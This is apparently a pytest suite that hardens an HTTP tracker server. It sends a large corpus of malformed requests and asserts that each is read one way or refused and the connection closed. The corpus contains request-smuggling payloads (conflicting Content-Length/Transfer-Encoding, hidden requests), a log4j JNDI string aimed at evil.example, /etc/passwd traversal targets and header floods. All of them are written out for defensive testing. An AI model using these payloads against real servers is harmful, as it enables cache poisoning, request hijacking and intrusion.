"""Malformed HTTP at each door: one reading of a request, or a refusal and the end of the connection.

Each case is a string of bytes with the outcomes that are allowed: a status, or ``CLOSED`` (the connection ends without a
reply). ``SMUGGLED`` is a whole request hidden in many of them; the event that it would make must never be there.
After every refusal the connection must end; nothing may come as a 5xx but 501 and 505; no worker may exit, no traceback
and no flood of lines appear in the log; a good request on a new connection works as ever.
"""

from __future__ import annotations

import contextlib
import random
import socket
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any, NamedTuple

import pytest
from wire import DOORS, Reply, Wire, WrongReply, wait_events

CLOSED = 0
SILENT = -1
"""No answer within some seconds, and the connection stays."""
SMUGGLED = b"GET /imp/smuggled/x.gif?event_id=smuggled HTTP/1.1\r\nHost: t\r\n\r\n"
GET = b"GET /imp/outer/x.gif HTTP/1.1\r\n"
POST = b"POST /hit/outer HTTP/1.1\r\nHost: t\r\n"
HOST = b"Host: t\r\n"
LOG_BYTES_PER_BAD_REQUEST = 10
ENDS = {400, 408, 413, 417, 431, 501, 505}
"""Refusals after which nobody knows where the next request begins. (414 may come from the endpoint, of a whole request.)"""


class Case(NamedTuple):
    """Bytes, and what may come of them."""

    sort: str
    name: str
    sent: bytes
    fast: frozenset[int]
    portable: frozenset[int]
    ends: bool
    """Whether the client says that nothing more comes."""

    def allowed(self, door: str) -> frozenset[int]:
        return self.fast if door == "fast" else self.portable


CASES: list[Case] = []


def bad(sort: str, name: str, sent: bytes, *fast: int, portable: tuple[int, ...] = (), ends: bool = False) -> None:
    """A case. ``portable``: what gunicorn may say beside it."""
    allowed = frozenset(fast or (400,)) | {CLOSED}
    CASES.append(Case(sort, name, sent, allowed, allowed | frozenset(portable), ends))


def odd(sort: str, name: str, sent: bytes, *fast: int, portable: tuple[int, ...] = ()) -> None:
    """A case that looks odd and has one reading: a reply is due."""
    CASES.append(Case(sort, name, sent, frozenset(fast), frozenset(fast + portable), False))


# --- request line
for name, line in {
    "no version": b"GET /imp/outer/x.gif", "no target": b"GET  HTTP/1.1", "only a method": b"GET", "two spaces": b"GET  /imp/outer/x.gif HTTP/1.1",
    "a tab": b"GET\t/imp/outer/x.gif\tHTTP/1.1", "a space in the target": b"GET /imp/outer/x.gif x HTTP/1.1", "words": b"hello world this is no HTTP",
    "a space in front": b" GET /imp/outer/x.gif HTTP/1.1", "a NUL in the target": b"GET /imp/outer\x00/x.gif HTTP/1.1",
    "a control character in the target": b"GET /imp/out\x07er/x.gif HTTP/1.1", "an escape in the target": b"GET /imp/\x1b[31m/x.gif HTTP/1.1",
    "DEL in the target": b"GET /imp/\x7f/x.gif HTTP/1.1", "a NUL in the method": b"G\x00T /imp/outer/x.gif HTTP/1.1",
    "vertical tab": b"GET\x0b/imp/outer/x.gif\x0bHTTP/1.1", "form feed": b"GET\x0c/imp/outer/x.gif HTTP/1.1", "a bare CR within": b"GET /imp/\router/x.gif HTTP/1.1",
    "two versions": b"GET /imp/outer/x.gif HTTP/1.1 HTTP/1.1", "no-break space": b"GET\xa0/imp/outer/x.gif HTTP/1.1",
}.items():  # fmt: skip
    if name == "two spaces":  # RFC 9112, 3: a server may take them for one
        bad("request line", name, line + b"\r\n" + HOST + b"\r\n", 400, 200)
        continue
    bad("request line", name, line + b"\r\n" + HOST + b"\r\n", 400, 404, 405, 505)
bad("request line", "a space behind it", b"GET /imp/outer/x.gif HTTP/1.1 \r\n" + HOST + b"\r\n", 400, 200)
bad("request line", "a target that is too long", b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n", 414, 431)
bad("request line", "a target without an end", b"GET /" + b"a" * 70_000, 414, 431, 400)
bad("request line", "a method without an end", b"G" * 70_000, 400, 414, 431, 501)
bad("request line", "nothing but spaces", b" " * 40_000, 400, 414, 431)
bad("request line", "nothing but empty lines", b"\r\n" * 40_000, 400, 414, 431, ends=True)
bad("request line", "the end of the stream within", b"GET /imp/outer", 400, 408, ends=True)
odd("request line", "an empty line in front", b"\r\n" + GET + HOST + b"\r\n", 200, portable=(400,))

# --- method
for method in (b"FOO", b"get", b"Get", b"GETT", b"TRACK", b"BREW", b"G@T", b"GET/", b"'GET'", b"(GET)", b"G\xc3\x89T", b"X" * 200, b"SOURCE", b"PRI", b"<script>"):
    bad("method", method.decode("latin-1")[:12], method + b" /imp/outer/x.gif HTTP/1.1\r\n" + HOST + b"\r\n", 400, 405, 501)
for method in (b"TRACE", b"PROPFIND", b"DELETE", b"OPTIONS", b"LOCK", b"PATCH"):
    odd("method", f"{method.decode()} is no tracking method", method + b" /imp/outer/x.gif HTTP/1.1\r\n" + HOST + b"\r\n", 405, 501, 400)

# --- version
for version in (b"HTTP/1.2", b"HTTP/2.0", b"HTTP/3.0", b"HTTP/0.9", b"HTTP/9.9", b"HTTP/1", b"HTTP/1.", b"HTTP/1.1.1", b"HTTP/11", b"HTTP/1.10", b"HTTP/01.1", b"HTTP/-1.1",
                b"http/1.1", b"Http/1.1", b"HTTPS/1.1", b"HTTP/1,1", b"HTTP/ 1.1", b"HTTP /1.1", b"HTTP/1.x", b"ICE/1.0", b"RTSP/1.0", b"SIP/2.0", b"HTTP"):  # fmt: skip
    more = (200,) if version == b"RTSP/1.0" else ()  # llhttp knows RTSP; to the tracker it is HTTP/1.0
    bad("version", version.decode(), b"GET /imp/outer/x.gif " + version + b"\r\n" + HOST + b"\r\n", 400, 505, *more, portable=(200,) if version == b"HTTP/1.2" else ())
bad("version", "HTTP/0.9, the simple request", b"GET /imp/outer/x.gif\r\n", 400, 505, ends=True)

# --- target forms
for name, target, statuses in (
    ("asterisk", b"*", (400, 404)), ("no slash", b"imp/outer/x.gif", (400, 404)), ("authority", b"t:80", (400, 404)), ("a query only", b"?a=1", (400, 404)),
    ("a fragment", b"/imp/outer/x.gif#top", (400, 404, 200)), ("a file", b"file:///etc/passwd", (400, 404)),
    ("script", b"javascript:alert(1)", (400, 404)), ("a scheme alone", b"http:", (400, 404)), ("a scheme and slashes", b"http://", (400, 404)),
    ("a backslash", b"\\imp\\outer\\x.gif", (400, 404)), ("log4j", b"/${jndi:ldap://evil.example/a}", (400, 404)), ("traversal", b"/../../../../etc/passwd", (400, 404)),
    ("traversal, encoded", b"/%2e%2e/%2e%2e/etc/passwd", (400, 404)), ("a proxy form", b"http://evil.example:1/nowhere", (400, 404)),
):  # fmt: skip
    odd("target", name, b"GET " + target + b" HTTP/1.1\r\n" + HOST + b"\r\n", *statuses)
odd("target", "another scheme", b"GET ftp://t/imp/outer/x.gif HTTP/1.1\r\n" + HOST + b"\r\n", 400, 404, portable=(200,))
bad("target", "CONNECT", b"CONNECT t:443 HTTP/1.1\r\n" + HOST + b"\r\n", 400, 404, 405, 501)
bad("target", "CONNECT with data behind it", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n" + SMUGGLED, 400, 404, 405, 501)
odd("target", "OPTIONS *", b"OPTIONS * HTTP/1.1\r\n" + HOST + b"\r\n", 400, 404, 405)

# --- header syntax
for name, header in {
    "no colon": b"Referer http://a.example", "no name": b": a", "a space before the colon": b"Referer : a", "a tab before the colon": b"Referer\t: a", "a space in the name": b"Re ferer: a",
    "a control character in the name": b"Re\x01ferer: a", "a NUL in the name": b"Re\x00ferer: a", "a NUL in the value": b"Referer: a\x00b", "a bare CR in the value": b"Referer: a\rX-Evil: 1",
    "a bare CR at the end of the name": b"Referer\r: a", "beyond ASCII in the name": b"R\xc3\xa9ferer: a", "brackets in the name": b"Ref[er]: a", "an at in the name": b"Ref@er: a", "a quote in the name": b'"Referer": a',
    "DEL in the name": b"Ref\x7ferer: a", "a comma in the name": b"Ref,erer: a", "a slash in the name": b"Ref/erer: a", "a first line that is folded": b" Referer: a",
}.items():  # fmt: skip
    bad("header", name, GET + (header + b"\r\n" + HOST if name.startswith("a first") else HOST + header + b"\r\n") + b"\r\n")
bad("header", "a control character in the value", GET + HOST + b"Referer: a\x07b\r\n\r\n", 400, 200)
bad("header", "an escape in the value", GET + HOST + b"Referer: \x1b[31m\r\n\r\n", 400, 200)
bad("header", "DEL in the value", GET + HOST + b"Referer: a\x7fb\r\n\r\n", 400, 200)
bad("header", "folded", GET + HOST + b"Referer: a\r\n b\r\n\r\n")
bad("header", "folded with a tab", GET + HOST + b"Referer: a\r\n\tb\r\n\r\n")
bad("header", "folded to nothing", GET + HOST + b"Referer: a\r\n \r\n\r\n")
bad("header", "a folded Host", GET + b"Host:\r\n t\r\n\r\n")
bad("header", "a folded coding", POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + SMUGGLED, 400, 501)
bad("header", "bare LF everywhere", GET.replace(b"\r\n", b"\n") + b"Host: t\n\n")
bad("header", "bare LF after one header", GET + HOST + b"Referer: a\nX-Evil: 1\r\n\r\n")
bad("header", "bare LF after the request line", GET.replace(b"\r\n", b"\n") + HOST + b"\r\n")
bad("header", "bare LF at the end of the head", GET + HOST + b"\n" + SMUGGLED)
bad("header", "bare CR at the end of the head", GET + HOST + b"\r\r" + SMUGGLED)
bad("header", "CR CR LF", GET + b"Host: t\r\r\n\r\n")
bad("header", "too large a head", GET + HOST + b"".join(b"X-%d: %s\r\n" % (i, b"v" * 1000) for i in range(80)) + b"\r\n", 431, 400, portable=(200,))
bad("header", "one header of 100 kB", GET + HOST + b"Referer: " + b"r" * 100_000 + b"\r\n\r\n", 431)
bad("header", "one name of 100 kB", GET + HOST + b"X" * 100_000 + b": 1\r\n\r\n", 431, 400)
bad("header", "20,000 headers", GET + HOST + b"a:b\r\n" * 20_000 + b"\r\n", 431, 400)
bad("header", "headers without an end", GET + HOST + b"a: b\r\n" * 10_000, 431, 400, portable=(SILENT,))
bad("header", "the end of the stream within", GET + HOST + b"Referer: a", 400, 408, ends=True)
bad("header", "the end of the stream after a line", GET + HOST, 400, 408, ends=True)

# --- host
bad("host", "none", GET + b"\r\n", 400, portable=(200,))
bad("host", "two", GET + b"Host: a\r\nHost: b\r\n\r\n", 400, portable=(200,))
bad("host", "two that are equal", GET + b"Host: t\r\nhost: t\r\n\r\n", 400, portable=(200,))
bad("host", "an empty one and one", GET + b"Host:\r\nHost: t\r\n\r\n", 400, portable=(200,))
odd("host", "an odd one means nothing here", GET + b"Host: evil.example/@:99999\r\n\r\n", 200, 400)

# --- lengths
for name, length in {
    "negative": b"-1", "with a plus": b"+5", "hexadecimal": b"0x5", "a fraction": b"5.0", "an exponent": b"5e0", "letters": b"five", "an underscore": b"1_0", "a list": b"5, 5", "a list of different ones": b"5,6",
    "a space within": b"5 5", "empty": b"", "beyond 64 bits": b"18446744073709551617", "a hundred digits": b"9" * 100, "five thousand digits": b"1" * 5000, "beyond ASCII": "٥".encode(), "a semicolon": b"5;", "quoted": b'"5"',
}.items():  # fmt: skip
    bad("length", name, POST + b"Content-Length: " + length + b"\r\n\r\nhello" + SMUGGLED, 400, 413)
for name, headers in {
    "two that differ": b"Content-Length: 5\r\nContent-Length: 0\r\n", "two that differ the other way": b"Content-Length: 0\r\nContent-Length: 5\r\n", "two that are equal": b"Content-Length: 5\r\nContent-Length: 5\r\n",
    "two in different case": b"Content-Length: 5\r\ncontent-length: 6\r\n", "a space before the colon": b"Content-Length : 5\r\n", "an underscore and a hyphen": b"Content-Length: 0\r\nContent_Length: 5\r\n",
}.items():  # fmt: skip
    if "underscore" not in name:
        bad("length", name, POST + headers + b"\r\nhello" + SMUGGLED)
odd("length", "leading zeros", POST + b"Content-Length: 0002\r\n\r\n{}", 204, 400)
odd("length", "an underscore is no hyphen", POST + b"Content-Length: 2\r\nContent_Length: 60\r\n\r\n{}", 204, 400)
odd("length", "63 bits", POST + b"Content-Length: 9223372036854775807\r\n\r\n{}", 413)
odd("length", "one byte too many", POST + b"Content-Length: 1048577\r\n\r\n{}", 413)
odd("length", "too large, and the client waits to be asked", POST + b"Content-Length: 99999999\r\nExpect: 100-continue\r\n\r\n", 413, 417)
bad("length", "the end of the stream within the body", POST + b"Content-Length: 50\r\n\r\n{}", 400, 408, ends=True)

# --- transfer codings
for name, coding, statuses in (
    ("gzip", b"gzip", (501, 400)), ("identity", b"identity", (501, 400)), ("gzip, chunked", b"gzip, chunked", (501, 400)), ("chunked, gzip", b"chunked, gzip", (501, 400)),
    ("chunked twice", b"chunked, chunked", (501, 400)), ("a comma", b"chunked,", (501, 400)), ("a space within", b"chun ked", (501, 400)), ("quoted", b'"chunked"', (501, 400)), ("an x", b"xchunked", (501, 400)),
    ("an s", b"chunkeds", (501, 400)), ("a parameter", b"chunked;q=1", (501, 400)), ("a vertical tab", b"\x0bchunked", (501, 400)), ("a vertical tab behind", b"chunked\x0b", (501, 400)), ("empty", b"", (501, 400)),
    ("beyond ASCII", "ᴄhunked".encode(), (501, 400)), ("a NUL", b"chunked\x00", (501, 400)), ("a colon", b": chunked", (501, 400)), ("none", b"none", (501, 400)), ("cow", b"cow", (501, 400)),
):  # fmt: skip
    bad("coding", name, POST + b"Transfer-Encoding: " + coding + b"\r\n\r\n0\r\n\r\n" + SMUGGLED, *statuses, portable=(204,) if name == "gzip, chunked" else ())
bad("coding", "two headers", POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SMUGGLED, 400, 501)
bad("coding", "two equal headers", POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED, 400, 501)
bad("coding", "two headers, the other way", POST + b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED, 400, 501)
bad("coding", "a space before the colon", POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SMUGGLED)
bad("coding", "HTTP/1.0", b"POST /hit/outer HTTP/1.0\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n" + SMUGGLED, 400, 501)

# --- both a length and a coding: what two servers in a row would cut differently
for name, headers in {
    "length, coding": b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", "coding, length": b"Transfer-Encoding: chunked\r\nContent-Length: 6\r\n", "length 0, coding": b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
    "a long length, coding": b"Content-Length: 200\r\nTransfer-Encoding: chunked\r\n", "coding in strange case": b"Content-Length: 6\r\ntRANSFER-eNCODING: CHUNKED\r\n",
    "an unknown coding": b"Content-Length: 6\r\nTransfer-Encoding: xchunked\r\n", "a tab before it": b"Content-Length: 6\r\nTransfer-Encoding:\tchunked\r\n", "identity": b"Content-Length: 6\r\nTransfer-Encoding: identity\r\n",
    "a bare LF hides it": b"Content-Length: 6\r\nX: y\nTransfer-Encoding: chunked\r\n", "a bare CR hides it": b"Content-Length: 6\r\nX: y\rTransfer-Encoding: chunked\r\n", "folding hides it": b"Content-Length: 6\r\nX: y\r\n Transfer-Encoding: chunked\r\n",
    "a NUL behind it": b"Content-Length: 6\r\nTransfer-Encoding: chunked\x00\r\n",
}.items():  # fmt: skip
    bad("smuggling", name, POST + headers + b"\r\n0\r\n\r\nX" + SMUGGLED, 400, 501)
bad("smuggling", "TE.CL", POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED), 400, 501)
bad("smuggling", "a GET with a length", GET + HOST + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 200, 400)
bad("smuggling", "a GET with chunks", GET + HOST + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED), 200, 400)
bad("smuggling", "a HEAD with a length", GET.replace(b"GET", b"HEAD") + HOST + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 200, 400)
bad("smuggling", "an OPTIONS with a length", b"OPTIONS /imp/outer/x.gif HTTP/1.1\r\n" + HOST + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 405, 400)
bad("smuggling", "a 404 with a length", b"POST /nowhere HTTP/1.1\r\n" + HOST + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 404, 400)
bad("smuggling", "a 405 with chunks", b"PUT /imp/outer/x.gif HTTP/1.1\r\n" + HOST + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED), 405, 400)
bad("smuggling", "a page with a length", b"POST /-/healthz HTTP/1.1\r\n" + HOST + b"Content-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 405, 400)
bad("smuggling", "a body beyond the limit", POST + b"Content-Length: 2000000\r\n\r\n" + SMUGGLED * 100, 413)
bad("smuggling", "an expectation that is not met", POST + b"Content-Length: %d\r\nExpect: tea\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 417, 400)
bad("smuggling", "after a close", GET + HOST + b"Connection: close\r\n\r\n" + SMUGGLED, 200)
bad("smuggling", "after HTTP/1.0", b"GET /imp/outer/x.gif HTTP/1.0\r\n\r\n" + SMUGGLED, 200)
bad("smuggling", "after a refusal", b"GET /imp/outer/x.gif HTTP/7.7\r\n" + HOST + b"\r\n" + SMUGGLED, 400, 505)

# --- chunks
CHUNKED = POST + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
for name, body in {
    "a size that is no number": b"x\r\n{}\r\n", "no size": b"\r\n{}\r\n", "a negative size": b"-2\r\n{}\r\n", "a size with a plus": b"+2\r\n{}\r\n", "a size with 0x": b"0x2\r\n{}\r\n", "a size with an underscore": b"0_2\r\n{}\r\n",
    "a space before the size": b" 2\r\n{}\r\n", "a size beyond 64 bits": b"10000000000000002\r\n{}\r\n", "a size of twenty digits": b"FFFFFFFFFFFFFFFFFFFF\r\n{}\r\n", "a bare LF after the size": b"2\n{}\r\n", "a bare CR after the size": b"2\r{}\r\n",
    "no end of the chunk": b"2\r\n{}0\r\n\r\n", "more than the size": b"2\r\n{}{}\r\n", "less than the size": b"5\r\n{}\r\n0\r\n\r\n", "a NUL in the size": b"2\x00\r\n{}\r\n", "a bare LF in an extension": b"2;a\nb\r\n{}\r\n",
    "a bare CR in an extension": b"2;a\rb\r\n{}\r\n", "a bare LF after the chunk": b"2\r\n{}\n0\r\n\r\n", "digits beyond ASCII": "٢\r\n{}\r\n".encode(), "full-width digits": "２\r\n{}\r\n".encode(),
}.items():  # fmt: skip
    bad("chunk", name, CHUNKED + body + b"0\r\n\r\n" + SMUGGLED if b"0\r\n\r\n" not in body else CHUNKED + body + SMUGGLED)
bad("chunk", "a space behind the size", CHUNKED + b"2 \r\n{}\r\n0\r\n\r\n", 400, 204)
bad("chunk", "a bare LF after the last chunk", CHUNKED + b"2\r\n{}\r\n0\n\n" + SMUGGLED)
bad("chunk", "a bare LF at the very end", CHUNKED + b"2\r\n{}\r\n0\r\n\n" + SMUGGLED)
bad("chunk", "a size line of 1 MB", CHUNKED + b"0" * 1_000_000 + b"2\r\n{}\r\n0\r\n\r\n")
bad("chunk", "an extension of 1 MB", CHUNKED + b"2;" + b"e" * 1_000_000 + b"\r\n{}\r\n0\r\n\r\n", 400, 413)
bad("chunk", "2,000 extensions of 1 kB", CHUNKED + b"2\r\n{}\r\n" + (b"1;" + b"e" * 1000 + b"\r\n \r\n") * 2000 + b"0\r\n\r\n", 400, 413, portable=(204,))
bad("chunk", "a trailer of 1 MB", CHUNKED + b"2\r\n{}\r\n0\r\nX: " + b"t" * 1_000_000 + b"\r\n\r\n", 400, 413, 431)
bad("chunk", "20,000 trailers", CHUNKED + b"2\r\n{}\r\n0\r\n" + b"a: b\r\n" * 20_000 + b"\r\n", 400, 413, 431, portable=(204,))
bad("chunk", "a trailer with a length", CHUNKED + b"2\r\n{}\r\n0\r\nContent-Length: 500\r\n\r\n", 400, 204)
bad("chunk", "a trailer with a coding", CHUNKED + b"2\r\n{}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n", 400, 204)
bad("chunk", "a trailer with a host", CHUNKED + b"2\r\n{}\r\n0\r\nHost: evil.example\r\n\r\n", 400, 204)
bad("chunk", "a trailer that is none", CHUNKED + b"2\r\n{}\r\n0\r\nnonsense\r\n\r\n" + SMUGGLED)
bad("chunk", "a trailer with a bare LF", CHUNKED + b"2\r\n{}\r\n0\r\nX: y\nZ: w\r\n\r\n" + SMUGGLED)
bad("chunk", "the end of the stream within", CHUNKED + b"5\r\n{}", 400, 408, ends=True)
bad("chunk", "the end of the stream before the last", CHUNKED + b"2\r\n{}\r\n", 400, 408, ends=True)
bad("chunk", "a size of 16 MB", CHUNKED + b"ffffff\r\n" + b"x" * 2_000_000, 413)
odd("chunk", "an extension", CHUNKED + b'2;name=value;q="quoted"\r\n{}\r\n0\r\n\r\n', 204, 400)
odd("chunk", "leading zeros", CHUNKED + b"0002\r\n{}\r\n0000\r\n\r\n", 204)
odd("chunk", "a trailer", CHUNKED + b"2\r\n{}\r\n0\r\nX-Sum: 1\r\n\r\n", 204)

# --- other protocols
for name, noise in {
    "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00", "TLS hello": bytes.fromhex("16030100c8010000c40303") + bytes(range(190)), "SSL 2 hello": bytes.fromhex("802e0100020015000000100100800200800300800400800500800600800700c0"),
    "SSH banner": b"SSH-2.0-OpenSSH_9.9\r\n", "SMTP": b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n", "FTP": b"USER anonymous\r\nPASS x\r\n", "Redis": b"*1\r\n$4\r\nPING\r\n", "memcached": b"stats\r\n", "PROXY v1, not trusted": b"PROXY TCP4 9.9.9.9 8.8.8.8 1 2\r\n" + GET + HOST + b"\r\n",
    "PROXY v2, not trusted": b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x09\x09\x09\x09\x08\x08\x08\x08\x00\x01\x00\x02" + GET + HOST + b"\r\n", "RDP": bytes.fromhex("0300002b26e00000000000436f6f6b69653a206d737473686173683d"), "SMB": b"\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00",
    "SOCKS 4": b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00", "SOCKS 5": b"\x05\x01\x00", "Postgres": bytes.fromhex("0000000804d2162f"), "MQTT": b"\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00", "DNS": bytes.fromhex("001e0001010000010000000000000776657273696f6e0462696e640000100003"),
    "JSON": b'{"method": "login", "params": {}}\r\n\r\n', "NULs": bytes(2000), "0xff": b"\xff" * 2000, "an HTTP reply": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", "CR only": b"\r" * 2000, "RTSP": b"OPTIONS rtsp://t/ RTSP/1.0\r\nCSeq: 1\r\n\r\n",
}.items():  # fmt: skip
    bad("protocol", name, noise, 400, 405, 408, 501, 505, *([404] if name == "RTSP" else []), portable=(403,), ends=True)
odd("protocol", "websocket", GET + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n", 200, 400, 426)
odd("protocol", "h2c", GET + HOST + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", 200, 400, 426)
odd("protocol", "h2c with a body", POST + b"Connection: Upgrade\r\nUpgrade: h2c\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}", 204, 400, 426)
bad("protocol", "a request behind an upgrade that is not granted", GET + HOST + b"Connection: Upgrade\r\nUpgrade: smuggle\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED, 200, 400, 426)
odd("protocol", "an upgrade that nobody asked to connect", GET + HOST + b"Upgrade: h2c\r\n\r\n", 200)

# --- expectations
bad("expect", "tea", POST + b"Expect: tea\r\nContent-Length: 2\r\n\r\n{}", 417, 400)
bad("expect", "two", POST + b"Expect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n{}", 417, 400, 204)
odd("expect", "without a body", GET + HOST + b"Expect: 100-continue\r\n\r\n", 200)
odd("expect", "HTTP/1.0", b"POST /hit/outer HTTP/1.0\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n{}", 204, 417)


# --- garbage behind a good request
ONLY_FAST = {
    ("coding", "two headers, the other way"): "gunicorn takes `identity`, then `chunked` for `chunked`, and what follows for a request",
    ("chunk", "a size beyond 64 bits"): "gunicorn waits for so many bytes",
    ("chunk", "a size of twenty digits"): "gunicorn waits for so many bytes",
}
"""What is not tried at the portable door, with the reason: put a proxy in front of it."""


class Garbage(NamedTuple):
    """What follows a good request in the same send."""

    name: str
    sent: bytes


BEHIND = [Garbage(case.name, case.sent) for case in CASES if case.sort == "protocol" and case.name in ("TLS hello", "SSH banner", "NULs", "JSON", "0xff")]


class Outcome(NamedTuple):
    """What came."""

    status: int
    closed: bool
    """Whether the other side ended the connection afterwards."""
    wrong: str
    good_after: int
    """Status of a good request on a new connection."""


def play(address: str, case: Case, number: int, check: bool = True, behind: bool = False) -> Outcome:
    """Send a case, from the ``number``-th address, and see. The bytes go in one piece, as far as the other side takes them.
    ``behind``: on a connection that has just brought two good requests, and may be remembered for that."""
    status, closed, wrong = CLOSED, False, ""
    source = f"127.{1 + number // 60_000}.{number // 250 % 250}.{number % 250 + 1}"
    with Wire(address, timeout_s=2, source=source) as wire:
        for _ in range(2 if behind else 0):
            reply = wire.send(GET + HOST + b"\r\n").reply()
            assert reply is not None and reply.status == 200
        sender = threading.Thread(target=push, args=(wire, case.sent))
        if len(case.sent) > 60_000:  # a refusal may come before all is sent
            sender.start()
        else:
            wire.send(case.sent)
        if case.ends:
            wire.end()
        try:
            reply = wire.reply("HEAD" if case.sent.startswith(b"HEAD") else "GET")
            if reply is None:
                closed = True
            else:
                status = reply.status
                closed = wire.closed(0.1 if status not in ENDS else 4)
        except TimeoutError:
            status = SILENT
        except (WrongReply, ConnectionError) as error:
            wrong = f"{type(error).__name__}: {error}"
        if sender.ident is not None:
            with contextlib.suppress(OSError):
                wire.socket.shutdown(socket.SHUT_RDWR)  # it may still be sending
            sender.join(5)
            assert not sender.is_alive()
    return Outcome(status, closed, wrong, greet(address) if check else 200)


def push(wire: Wire, raw: bytes) -> None:
    """Send what is taken."""
    with contextlib.suppress(OSError):
        wire.send(raw)


def good_request(ident: str = "") -> bytes:
    """A hit that is answered with 200."""
    return b"GET /imp/good/x.gif%s HTTP/1.1\r\nHost: t\r\n\r\n" % (b"?event_id=" + ident.encode() if ident else b"")


def greet(address: str) -> int:
    """The status of a good request on a new connection; 0 if there is none."""
    with Wire(address) as wire:
        reply = wire.send(good_request()).reply()
        return reply.status if reply else CLOSED


class Swept(NamedTuple):
    """A door after the whole corpus."""

    tracker: Any
    outcomes: dict[tuple[str, str], Outcome]
    behind: dict[tuple[str, str], Outcome]
    """The same, behind two good requests on the same connection."""
    workers: tuple[list[int], list[int]]
    logged: str
    bad: int


@pytest.fixture(scope="module", params=DOORS)
def swept(serve_all: Callable[..., Any], request: pytest.FixtureRequest) -> tuple[str, Swept]:
    """The corpus, one by one; then shuffled, five times, by four clients at a time."""
    door: str = request.param
    tracker = serve_all(TRACKER_DOOR=door, TRACKER_THREADS="8", TRACKER_LIMITS_MAX_BAD_REQUESTS="0")
    before = tracker.children()["worker"]
    lines = tracker.output.stat().st_size
    cases = [case for case in CASES if door == "fast" or (case.sort, case.name) not in ONLY_FAST]
    # gunicorn waits two seconds for many a client to close; the fast door gets them one by one, each behind the last.
    with ThreadPoolExecutor(6 if door == "portable" else 1) as pool:
        played = pool.map(lambda number: play(tracker.address, cases[number], number), range(len(cases)))
        outcomes = {(case.sort, case.name): outcome for case, outcome in zip(cases, played, strict=True)}
        played = pool.map(lambda number: play(tracker.address, cases[number], 500 + number, False, True), range(len(cases)))
        behind = {(case.sort, case.name): outcome for case, outcome in zip(cases, played, strict=True)}
    several = [case for case in cases if len(case.sent) < 60_000 and not outcomes[case.sort, case.name].wrong
               and outcomes[case.sort, case.name].closed] * 5  # fmt: skip
    random.Random(7).shuffle(several)

    def some(part: int) -> None:
        for number in range(part, len(several), 4):
            play(tracker.address, several[number], 1000 + number, False)

    threads = [threading.Thread(target=some, args=(part,)) for part in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    logged = tracker.output.read_bytes()[lines:].decode("utf-8", "replace")
    return door, Swept(tracker, outcomes, behind, (before, tracker.children()["worker"]), logged, 2 * len(cases) + len(several))


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.sort}-{case.name}")
def test_one_reading_or_a_refusal(swept: tuple[str, Swept], case: Case) -> None:
    """The outcome is among the allowed ones, refusals end the connection, and the next client notices nothing."""
    door, found = swept
    if door == "portable" and (case.sort, case.name) in ONLY_FAST:
        pytest.skip(ONLY_FAST[case.sort, case.name])
    for how, outcome in (("first", found.outcomes[case.sort, case.name]), ("behind good ones", found.behind[case.sort, case.name])):
        told = f"{door}, {how}: {case.sort}, {case.name}: {outcome}, allowed {sorted(case.allowed(door))}; sent {case.sent[:150]!r}"
        assert not outcome.wrong, told
        assert outcome.status in case.allowed(door), told
        if outcome.status in ENDS and not (door == "portable" and outcome.status == 413):  # gunicorn reads the rest, and throws it away
            assert outcome.closed, f"NOT CLOSED: {told}"
        assert outcome.good_after == 200, told


def test_the_corpus_is_large_enough() -> None:
    """Every class that FAULTS names, at least 120 strings, no name twice."""
    assert len(CASES) >= 120
    assert len({(case.sort, case.name) for case in CASES}) == len(CASES)
    assert {status for case in CASES for status in case.fast if status >= 500} <= {501, 505}
